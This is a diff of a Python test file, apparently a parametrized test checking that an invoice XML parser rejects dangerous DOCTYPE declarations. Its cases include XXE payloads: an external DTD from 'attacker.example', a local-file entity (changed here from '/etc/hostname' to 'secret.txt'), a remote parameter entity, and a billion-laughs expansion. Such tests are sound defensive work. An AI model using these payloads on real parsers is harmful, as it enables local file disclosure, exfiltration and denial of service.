@@ -40,7 +40,7 @@ def edited(sample: bytes) -> Iterator[tuple[Any, list[Any]]]:
     "declared",
     [
         '<!DOCTYPE Invoice SYSTEM "http://attacker.example/e.dtd">',
-        '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
+        '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "secret.txt">]>',
         '<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "http://attacker.example/e.dtd"> %x;]>',
         f'<!DOCTYPE Invoice [<!ENTITY l0 "ha">{LAUGHS}]>',
         "<!DOCTYPE Invoice>",
